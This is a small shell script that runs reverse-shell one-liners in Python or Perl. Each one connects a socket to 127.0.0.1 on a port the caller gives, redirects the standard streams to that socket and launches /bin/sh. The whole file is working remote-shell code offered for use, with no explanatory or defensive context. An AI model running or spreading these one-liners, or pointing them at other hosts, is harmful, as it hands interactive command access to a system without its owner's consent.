#!/bin/sh
# Interpreter one-liners against 127.0.0.1:PORT: revshell_oneliner.sh python|perl PORT
case "$1" in
python)
  /usr/bin/python3 -c "import socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',$2));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')" ;;
perl)
  perl -e "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));if(connect(S,sockaddr_in($2,inet_aton('127.0.0.1')))){open(STDIN,'>&S');open(STDOUT,'>&S');open(STDERR,'>&S');exec('/bin/sh -i');};" ;;
esac
